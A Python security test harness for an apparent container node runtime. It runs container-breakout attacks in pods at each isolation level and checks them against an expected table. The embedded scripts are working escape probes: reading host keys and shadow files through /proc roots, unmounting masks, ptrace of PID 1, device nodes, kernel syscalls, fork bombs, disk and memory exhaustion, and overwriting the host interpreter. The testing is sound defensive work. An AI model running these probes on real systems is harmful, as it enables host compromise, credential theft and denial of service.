"""Break out of pods: each attack is run in a pod of the real node code at each level of isolation.

An attack prints ``OUT`` and what it got, or ``KEPT``; what it may have done outside is looked at from outside. The
table says for each cell whether the level is meant to hold; a cell that differs, either way, is a finding.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import hashlib
import json
import os
import random
import shutil
import socket
import subprocess
import sys
import tempfile
from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from unittest import mock

from strato.node.sandbox import linux, podlimits
from strato.node.sandbox.cleanup import teardown
from tests.node.fake_api import FakeApi
from tests.node.sandboxes import World, running, until

ISOLATED, OPEN = "isolated", "not isolated"
HOST_USERS = "root, machine's users"
LEVELS: dict[str, dict[str, Any]] = {
    "root": {},
    HOST_USERS: {"own_users": False},
    "user": {"level": "user"},
    "plain": {"level": "plain"},
}
_SECRET = "SECRET-OF-THE-CLUSTER"
_POD_SECRET = "SECRET-OF-ANOTHER-POD"
_PROCESSES = 64
_LOOK_SECONDS = 0.5
"""Between two looks at the disk; ten on a node that serves."""

_PRELUDE = r"""
import ctypes, errno, glob, json, os, socket, struct, subprocess, sys, time
libc = ctypes.CDLL(None, use_errno=True)
W = json.loads(os.environ["WORLD"])
def out(what):
    print("OUT", what, flush=True)
    os._exit(0)
def kept():
    print("KEPT", flush=True)
    os._exit(0)
def read(path):
    try:
        with open(path, "rb") as f:
            return f.read(1 << 16)
    except OSError:
        return b""
def syscall(number, *args):
    return libc.syscall(ctypes.c_long(number), *args)
def roots():
    return ["", *(p + "/" + n for p in glob.glob("/proc/[0-9]*") for n in ("root", "cwd")),
            *glob.glob("/proc/[0-9]*/fd/*")]
def uncover(path):
    # Take a mask away: unmount it, also from a mount namespace of a user namespace of our own.
    libc.umount2(path.encode(), 2)
    libc.unshare(0x10000000 | 0x00020000)
    libc.umount2(path.encode(), 2)
    libc.mount(b"none", path.encode(), None, 32 | 4096, None)
"""


@dataclass(frozen=True, slots=True)
class Attack:
    """A way to break out, and which levels are meant to hold."""

    name: str
    script: str
    isolated: frozenset[str]
    spec: dict[str, Any] = field(default_factory=dict)
    """Of the pod."""
    container: dict[str, Any] = field(default_factory=dict)
    levels: frozenset[str] = frozenset(LEVELS)
    """Where it can be tried."""
    done: Callable[[Outside], str] = lambda _: ""
    """Says what the attack has done outside, empty when nothing."""


@dataclass(slots=True)
class Outside:
    """What an attack aims at."""

    home: Path
    victim: subprocess.Popen[bytes]
    listener: socket.socket
    world: World
    neighbour_uid: str = ""

    def facts(self) -> dict[str, Any]:
        """Return what the attacker knows: everything."""
        return {
            "home": str(self.home),
            "secrets": {
                str(path): hashlib.sha256(path.read_bytes()).hexdigest()
                for path in map(Path, ("/etc/shadow", "/etc/gshadow", "/etc/sudoers"))
                if os.access(path, os.R_OK)
            },
            "victim": self.victim.pid,
            "port": self.listener.getsockname()[1],
            "device": [os.major(os.stat("/").st_dev), os.minor(os.stat("/").st_dev)],
            "pod": str(self.home / "node" / "pods" / self.neighbour_uid),
            "python": os.path.realpath(sys.executable),
            "program": [os.stat(sys.executable).st_dev, os.stat(sys.executable).st_ino],
        }


_READ_KEYS = r"""
import hashlib
wanted = ["/pki/ca.key", "/tokens.json", "/kubeconfig", "/node/pods"]
def look():
    for root in roots():
        for name in wanted[:3]:
            if b"SECRET-OF-THE-CLUSTER" in read(root + W["home"] + name):
                out(root + W["home"] + name)
        for secret, digest in W["secrets"].items():
            if hashlib.sha256(read(root + secret)).hexdigest() == digest:
                out(root + secret)
look()
uncover(W["home"]); uncover("/etc/shadow"); uncover("/root")
look()
kept()
"""
_WRITE_FILES = r"""
for root in roots():
    for path in ("/etc/strato-owned", "/usr/strato-owned", W["home"] + "/owned", "/sys/kernel/uevent_helper"):
        try:
            with open(root + path, "w") as f: f.write("")
        except OSError: pass
libc.mount(b"none", b"/", None, 32 | 4096, None)
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/power/state", "/proc/sys/vm/swappiness"):
    try:
        os.close(os.open(path, os.O_WRONLY)); out(path)
    except OSError: pass
for path in ("/etc/strato-owned", W["home"] + "/owned"):
    if os.path.exists(path): out(path)
kept()
"""
_SIGNAL = r"""
for pid in (W["victim"],):
    try: os.kill(pid, 9)
    except OSError: pass
print("TRIED"); kept()
"""
_SEE = r"""
for path in glob.glob("/proc/[0-9]*/cmdline"):
    if b"victim-of-" + b"the-attack" in read(path): out(path)
kept()
"""
_MOUNT = r"""
os.makedirs("/tmp/m", exist_ok=True)
for unshare in (0, 0x20000, 0x10000000 | 0x20000):
    if unshare and libc.unshare(unshare) != 0: continue
    for kind in (b"tmpfs", b"proc", b"overlay"):
        if libc.mount(b"x", b"/tmp/m", kind, 0, None) == 0: out(kind)
    if libc.mount(b"/etc", b"/tmp/m", None, 4096, None) == 0: out("bind")
    if libc.umount2(b"/proc", 2) == 0: out("umount /proc")
if syscall(428, -100, b"/", 1) >= 0: out("open_tree")
if syscall(430, b"tmpfs", 0) >= 0: out("fsopen")
kept()
"""
_MKNOD = r"""
import stat
for place in ("/tmp", "/dev/shm", "/dev", "/vol", "/run", W["home"]):
    for kind, device in ((stat.S_IFBLK, tuple(W["device"])), (stat.S_IFCHR, (1, 1)), (stat.S_IFCHR, (1, 11))):
        path = place + "/node%d" % os.getpid()
        try:
            os.mknod(path, kind | 0o666, os.makedev(*device))
            os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK)); out(path)
        except OSError: pass
        try: os.unlink(path)
        except OSError: pass
for name in os.listdir("/dev"):
    path = "/dev/" + name
    known = ("null", "zero", "full", "random", "urandom", "tty", "ptmx", "stdin", "stdout", "stderr", "termination-log")
    if not os.path.isdir(path) and name not in known:
        try: os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK)); out(path)
        except OSError: pass
kept()
"""
_PTRACE = r"""
def attach(pid):
    return libc.ptrace(16, pid, None, None) == 0
for pid in {1, os.getppid(), W["victim"]} - {0}:
    if pid == W["victim"] and not b"victim-of-" + b"the-attack" in read("/proc/%d/cmdline" % pid): continue
    if attach(pid): out("ptrace %d" % pid)
for name in ("mem", "environ", "maps", "auxv"):
    try:
        with open("/proc/1/" + name, "rb") as f:
            if name != "mem" and f.read(10): out("/proc/1/" + name)
    except OSError: pass
for name in ("root", "cwd", "exe"):
    try: out("/proc/1/%s -> %s" % (name, os.readlink("/proc/1/" + name)))
    except OSError: pass
try:
    if os.listdir("/proc/1/fd"): out("descriptors of PID 1: %s" % os.listdir("/proc/1/fd"))
except OSError: pass
kept()
"""
_KERNEL = r"""
import platform
arm = platform.machine() == "aarch64"
n = lambda x86, generic: generic if arm else x86
buf = ctypes.create_string_buffer(256)
tries = {
    "bpf": (n(321, 280), 0, buf, 128),
    "keyctl": (n(250, 219), 0, -3, 1),
    "add_key": (n(248, 217), b"user", b"x", b"y", 1, -3),
    "request_key": (n(249, 218), b"user", b"x", None, 0),
    "init_module": (n(175, 105), buf, 0, b""),
    "finit_module": (n(313, 273), 0, b"", 0),
    "kexec_load": (n(246, 104), 0, 0, None, 0),
    "reboot": (n(169, 142), 0, 0, 0, None),
    "perf_event_open": (n(298, 241), buf, 0, -1, -1, 0),
    "userfaultfd": (n(323, 282), 0),
    "io_uring_setup": (425, 1, buf),
    "open_by_handle_at": (n(304, 265), -100, buf, 0),
    "unshare(user)": (n(272, 97), 0x10000000),
    "clone(user)": (n(56, 220), 0x10000000 | 17, 0, 0, 0, 0),
    "clone3": (435, buf, 64),
    "setns": (n(308, 268), 0, 0),
    "swapon": (n(167, 224), b"/x", 0),
    "settimeofday": (n(164, 170), None, buf),
    "sethostname": (n(170, 161), b"owned", 5),
    "iopl": (172, 3) if not arm else (n(0, 105), buf, 0, b""),
    "syslog": (n(103, 116), 3, buf, 100),
    "chroot-pivot": (n(155, 41), b".", b"."),
    "quotactl": (n(179, 60), 0, None, 0, None),
    "mount_setattr": (442, -100, b"/", 0, buf, 32),
    "acct": (n(163, 89), None),
    "name_to_handle_at+open": (n(304, 265), 3, buf, 0),
}
for name, args in tries.items():
    ctypes.set_errno(0)
    result = syscall(*args)
    number = ctypes.get_errno()
    if name.startswith("clone(") and result == 0: os._exit(0)
    if result >= 0 or number not in (errno.EPERM, errno.ENOSYS):
        out("%s: %d %s" % (name, result, errno.errorcode.get(number)))
for family in (40,):
    try: socket.socket(family, socket.SOCK_STREAM); out("vsock")
    except OSError: pass
kept()
"""
_FORK = r"""
import signal
children = []
for _ in range(W["processes"] * 4):
    try: pid = os.fork()
    except OSError: break
    if pid == 0:
        time.sleep(60); os._exit(0)
    children.append(pid)
count = len(children)
for pid in children: os.kill(pid, 9)
if count > W["processes"]: out("%d processes" % count)
kept()
"""
_MEMORY = r"""
held = bytearray(256 << 20)
for at in range(0, len(held), 4096): held[at] = 1
out("256 MiB with a limit of 64")
"""
_OTHER_FILES = r"""
def look():
    for root in roots():
        for path in (W["pod"] + "/volumes/v/secret", "/v/secret"):
            if b"SECRET-OF-ANOTHER-POD" in read(root + path): out(root + path)
look(); uncover(W["home"]); look()
kept()
"""
_ABSTRACT = r"""
s = socket.socket(socket.AF_UNIX)
try:
    s.connect("\0strato-neighbour"); out("abstract socket")
except OSError: kept()
"""
_SHM = r"""
if libc.shmget(0x5742, 0, 0) >= 0: out("System V shared memory")
if os.path.exists("/dev/shm/strato-neighbour"): out("/dev/shm")
kept()
"""
_NETWORK = r"""
try:
    socket.create_connection(("127.0.0.1", W["port"]), 2); out("the machine's loopback")
except OSError: kept()
"""
_ENVIRONMENT = r"""
if "BREAKOUT_SECRET" in os.environ or "operator-only" in os.environ["PATH"]: out("own environment")
for path in glob.glob("/proc/[0-9]*/environ"):
    if path != "/proc/%d/environ" % os.getpid() and b"BREAKOUT_SECRET" in read(path): out(path)
kept()
"""
_PROGRAM = r"""
def is_changed(path):
    # The mode it has already: enough to show, and nothing is harmed.
    try:
        found = os.stat(path)
        os.chmod(path, found.st_mode & 0o7777)
    except OSError: return False
    return [found.st_dev, found.st_ino] == W["program"]
until = time.monotonic() + 4
while time.monotonic() < until:
    for path in ("/proc/self/exe", W["python"], *glob.glob("/proc/[0-9]*/exe")):
        if is_changed(path): out(path)
    if not W["watch"]: break
kept()
"""
_FILL = r"""
path = {"volume": "/vol/fill", "root": "/tmp/fill-%d" % os.getpid(), "log": "/dev/stdout"}[W["where"]]
with open(path, "wb") as f:
    for _ in range(16): f.write(b"fill the disk! " * 69905 + b"\n")
time.sleep(20)
if W["where"] != "log": os.unlink(path)
out("16 MiB in %s, with a limit of 4, for 20 s" % path)
"""
_FILL_VOLUME, _FILL_ROOT, _FILL_LOG = (f"W['where'] = '{where}'\n{_FILL}" for where in ("volume", "root", "log"))

_ALL = frozenset(LEVELS)
_ROOT = frozenset({"root", HOST_USERS})
_FENCED = _ROOT | {"user"}
_TRACER = {"securityContext": {"capabilities": {"add": ["SYS_PTRACE"]}, "allowPrivilegeEscalation": True}}
_SHARED = {"shareProcessNamespace": True}
_OWN_USERS = {"hostUsers": False}
_NON_ROOT = {"securityContext": {"runAsUser": 1000, "runAsNonRoot": True}}
_OWN_PROGRAM = {"command": ["/proc/self/exe", "-IS", "-c", _PRELUDE + "W['watch'] = False\n" + _PROGRAM]}
_PROBE = {"exec": {"command": ["/proc/self/exe", "-IS", "-c", "import time; time.sleep(0.3)"]}, "periodSeconds": 1}
_VOLUME = {"volumes": [{"name": "vol", "emptyDir": {}}]}
_LIMITED = {"resources": {"limits": {"ephemeral-storage": "4Mi"}}}
_MOUNTED = {"volumeMounts": [{"name": "vol", "mountPath": "/vol"}]}


def _written(outside: Outside) -> str:
    paths = [Path("/etc/strato-owned"), Path("/usr/strato-owned"), outside.home / "owned"]
    found = [str(path) for path in paths if path.exists()]
    for path in found:
        os.unlink(path)
    return ", ".join(found)


def _killed(outside: Outside) -> str:
    return "" if outside.victim.poll() is None else "a process of the machine is dead"


def _neighbour_ended(outside: Outside) -> str:
    phase = outside.world.api.phase("neighbour")
    return "" if phase == "Running" else f"the neighbour is {phase}"


ATTACKS = (
    Attack("read keys", _READ_KEYS, _FENCED),
    Attack("read keys as a user", _READ_KEYS, _FENCED, container=_NON_ROOT, levels=_FENCED),
    Attack("read keys with SYS_PTRACE", _READ_KEYS, _ROOT, container=_TRACER, levels=_ROOT),
    Attack("read keys past a shared PID 1", _READ_KEYS, _ROOT, spec=_SHARED, container=_TRACER, levels=_ROOT),
    Attack("read keys as root of a user namespace", _READ_KEYS, _ROOT, spec=_OWN_USERS, levels=_ROOT),
    Attack("load into the kernel as root of a user namespace", _KERNEL, _ROOT, spec=_OWN_USERS, levels=_ROOT),
    Attack("read or write host files", _WRITE_FILES, _FENCED, done=_written),
    Attack("signal other processes", _SIGNAL, _FENCED, done=_killed),
    Attack("see other processes", _SEE, _FENCED),
    Attack("mount", _MOUNT, _ALL),
    Attack("make device nodes", _MKNOD, _ALL - {"plain"}, spec=_VOLUME, container=_MOUNTED),
    Attack("trace other processes", _PTRACE, _FENCED),
    Attack("trace other processes as a user", _PTRACE, _FENCED, container=_NON_ROOT, levels=_FENCED),
    Attack("load into the kernel", _KERNEL, _ALL),
    Attack("fork without end", _FORK, _ALL),
    Attack("fill the memory", _MEMORY, _ALL, container={"resources": {"limits": {"memory": "64Mi"}}}),
    Attack("reach another pod's files", _OTHER_FILES, _FENCED),
    Attack(
        "fill the disk by a volume",
        _FILL_VOLUME,
        _FENCED,
        spec={"volumes": [{"name": "vol", "emptyDir": {"sizeLimit": "4Mi"}}]},
        container=_MOUNTED,
        levels=_FENCED,
        done=_neighbour_ended,
    ),
    Attack(
        "fill the disk by files", "W['where'] = 'root'\n" + _FILL, _FENCED, container=_LIMITED, done=_neighbour_ended
    ),
    Attack("fill the disk by its log", "W['where'] = 'log'\n" + _FILL, _ALL, container=_LIMITED, done=_neighbour_ended),
    Attack("reach another pod's abstract sockets", _ABSTRACT, _ROOT),
    Attack("reach another pod's shared memory", _SHM, _FENCED),
    Attack("reach the machine's loopback", _NETWORK, _ROOT),
    Attack("read the operator's environment", _ENVIRONMENT, _FENCED),
    Attack("overwrite the machine's interpreter through /proc/self/exe", "", _FENCED, container=_OWN_PROGRAM),
    Attack(
        "overwrite the machine's interpreter through /proc/PID/exe",
        "W['watch'] = True\n" + _PROGRAM,
        _FENCED,
        container={"readinessProbe": _PROBE},
    ),
    Attack(
        "the same with SYS_PTRACE",
        "W['watch'] = True\n" + _PROGRAM,
        _ROOT,
        container={"readinessProbe": _PROBE, **_TRACER},
        levels=_ROOT,
    ),
)
"""The rows of the table in docs/security.md."""


@dataclass(frozen=True, slots=True)
class Outcome:
    """What came of one attack at one level."""

    attack: str
    level: str
    want: str
    got: str
    detail: str


@asynccontextmanager
async def arena(level: str, directory: str = "") -> AsyncIterator[Outside]:
    """Run a node at a level, with a cluster's home, a process and another pod to get at.

    The home lies where containers on the machine's root would see it, did the node not hide it.
    """
    home = Path(tempfile.mkdtemp(prefix="strato-breakout-", dir=directory or "/srv"))
    os.chmod(home, 0o755)
    (home / "pki").mkdir()
    for name in ("pki/ca.key", "tokens.json", "kubeconfig"):
        (home / name).write_text(_SECRET)
        (home / name).chmod(0o600)
    with _operators_environment(), _victim() as victim, socket.create_server(("127.0.0.1", 0)) as listener:
        async with running(
            home / "node", FakeApi(), hidden=[home], storage_seconds=_LOOK_SECONDS, **LEVELS[level]
        ) as world:
            outside = Outside(home, victim, listener, world)
            await _neighbour(outside)
            yield outside
        teardown(home / "node")
    shutil.rmtree(home, ignore_errors=True)


@contextlib.contextmanager
def _victim() -> Iterator[subprocess.Popen[bytes]]:
    """Run a process of the machine's as an operator has them: without capabilities."""

    def lower() -> None:
        linux.drop_bounding((), linux.last_capability())

    command = [sys.executable, "-IS", "-c", "import time; time.sleep(3600)", "victim-of-the-attack"]
    process = subprocess.Popen(command, preexec_fn=lower if os.geteuid() == 0 else None)
    try:
        yield process
    finally:
        process.kill()
        process.wait()


@contextlib.contextmanager
def _operators_environment() -> Iterator[None]:
    with (
        mock.patch.dict(os.environ, {"BREAKOUT_SECRET": "of the operator"}),
        mock.patch.object(podlimits, "PROCESSES", _PROCESSES),
    ):
        yield


_NEIGHBOUR = r"""
import ctypes, os, socket, time
open("/v/secret" if os.path.isdir("/v") else os.environ["DIR"] + "/secret", "w").write("SECRET-OF-ANOTHER-POD")
s = socket.socket(socket.AF_UNIX); s.bind("\0strato-neighbour"); s.listen(9)
libc = ctypes.CDLL(None); libc.shmget(0x5742, 4096, 0o1666)
open("/dev/shm/strato-neighbour", "w").close()
print("ready", flush=True)
time.sleep(3600)
"""


async def _neighbour(outside: Outside) -> None:
    """Start the pod that others try to reach."""
    api = outside.world.api
    container = {
        "name": "main",
        "image": "strato/host",
        "command": ["python", "-IS", "-c", _NEIGHBOUR],
        "env": [{"name": "DIR", "value": "/tmp"}],
        "volumeMounts": [{"name": "v", "mountPath": "/v"}],
    }
    api.create_pod("neighbour", "here", containers=[container], volumes=[{"name": "v", "emptyDir": {}}])
    await until(lambda: api.phase("neighbour") == "Running")
    outside.neighbour_uid = api.objects["/api/v1/namespaces/default/pods/neighbour"]["metadata"]["uid"]
    log = Path(outside.world.node._machine.node_paths.pod(outside.neighbour_uid).log("main", 0))
    await until(lambda: log.exists() and b"ready" in log.read_bytes())
    secret = outside.home / "node" / "pods" / outside.neighbour_uid / "volumes" / "v" / "secret"
    if not secret.exists():  # without namespaces volumes are not at their paths
        secret.parent.mkdir(parents=True, exist_ok=True)
        secret.write_text(_POD_SECRET)


async def attempt(outside: Outside, attack: Attack, level: str, number: int = 0) -> Outcome:
    """Run one attack in a pod of its own and look at what came of it."""
    world, name = outside.world, f"attack-{number}-{_slug(attack.name)}"
    facts = outside.facts() | {"processes": _PROCESSES}
    container = {
        "name": "main",
        "image": "strato/host",
        "command": ["python", "-IS", "-c", _PRELUDE + attack.script],
        "env": [{"name": "WORLD", "value": json.dumps(facts)}],
        **attack.container,
    }
    world.api.create_pod(name, "here", containers=[container], **attack.spec)
    status = await world.finished(name)
    evicted = status.get("reason") == "Evicted"
    text = "" if evicted else (await world.log(name)).strip()
    ended = status.get("containerStatuses", [{}])[0].get("state", {}).get("terminated", {})
    done = attack.done(outside)
    detail = text if text.startswith("OUT") else done
    held = not detail and (evicted or text.endswith("KEPT") or ended.get("reason") == "OOMKilled")
    got = ISOLATED if held else OPEN
    if not held and not detail:
        got, detail = "broken", f"{text[-500:]} {status.get('message', '')} {ended}"
    return Outcome(attack.name, level, ISOLATED if level in attack.isolated else OPEN, got, detail)


def _slug(name: str) -> str:
    return "".join(c if c.isalnum() else "-" for c in name.replace("'", "")).lower()


async def campaign(count: int, seed: int) -> list[Outcome]:
    """Run all attacks at all levels, in an order of chance, so often; print progress."""
    rng, found = random.Random(seed), []
    for round_number in range(count):
        for level in LEVELS:
            async with arena(level) as outside:
                attacks = [attack for attack in rng.sample(ATTACKS, len(ATTACKS)) if level in attack.levels]
                attacks.sort(key=lambda attack: attack.done is _killed)  # it may leave nothing to attack
                for number, attack in enumerate(attacks):
                    found.append(await attempt(outside, attack, level, number))
                print(f"round {round_number + 1}/{count}, level {level}: {len(attacks)} attacks", flush=True)
    return found


def main() -> int:
    """Return 1 when a cell is not as the table says."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--count", type=int, default=10, help="rounds over the whole table")
    parser.add_argument("--seed", type=int, default=1)
    options = parser.parse_args()
    if os.geteuid() != 0:
        print("needs root, to run a node at each level")
        return 2
    found = asyncio.run(campaign(options.count, options.seed))
    print(f"\n{'attack':<60}" + "".join(f"{level:<26}" for level in LEVELS))
    for attack in ATTACKS:
        cells = []
        for level in LEVELS:
            cell = [o for o in found if (o.attack, o.level) == (attack.name, level)]
            good = sum(o.got == o.want for o in cell)
            cells.append(f"{good}/{len(cell)} {cell[0].want}" if cell else "-")
        print(f"{attack.name:<60}" + "".join(f"{cell:<26}" for cell in cells))
    wrong = [outcome for outcome in found if outcome.got != outcome.want]
    for outcome in wrong:
        print(f"FOUND {outcome.attack} at {outcome.level}: {outcome.got}, not {outcome.want}: {outcome.detail}")
    print(f"{len(found)} attacks, {len(wrong)} findings, seed {options.seed}")
    return int(bool(wrong))


if __name__ == "__main__":
    sys.exit(main())
